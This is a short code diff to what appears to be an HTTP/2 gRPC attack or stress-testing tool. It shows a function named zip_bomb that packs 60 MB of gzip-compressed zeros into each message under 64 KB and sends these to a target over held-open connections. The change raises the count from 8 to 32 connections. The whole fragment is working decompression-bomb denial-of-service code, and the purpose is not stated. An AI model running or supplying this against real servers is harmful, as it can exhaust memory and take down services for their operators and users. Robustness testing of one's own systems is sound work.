@@ -259,11 +259,11 @@ def other_protocols(target: str, message: bytes) -> Held:
 
 
 def zip_bomb(target: str, message: bytes) -> Held:
-    """Send 8 messages of 60 KB that gzip makes 60 MB each, within the limit of a message."""
+    """Send 32 messages of 60 KB that gzip makes 60 MB each, within the limit of a message."""
     bomb = http2.message(gzip.compress(bytes(60 << 20), 9), is_compressed=True)
     assert len(bomb) < 65_535  # fits the first window
     opened = http2.opening(1, http2.CLASSIFY, ("grpc-encoding", b"gzip"))
-    held = [Connection(target) for _ in range(8)]
+    held = [Connection(target) for _ in range(32)]
     for connection in held:
         connection.send(opened + http2.data(1, bomb, http2.END_STREAM))
     return held
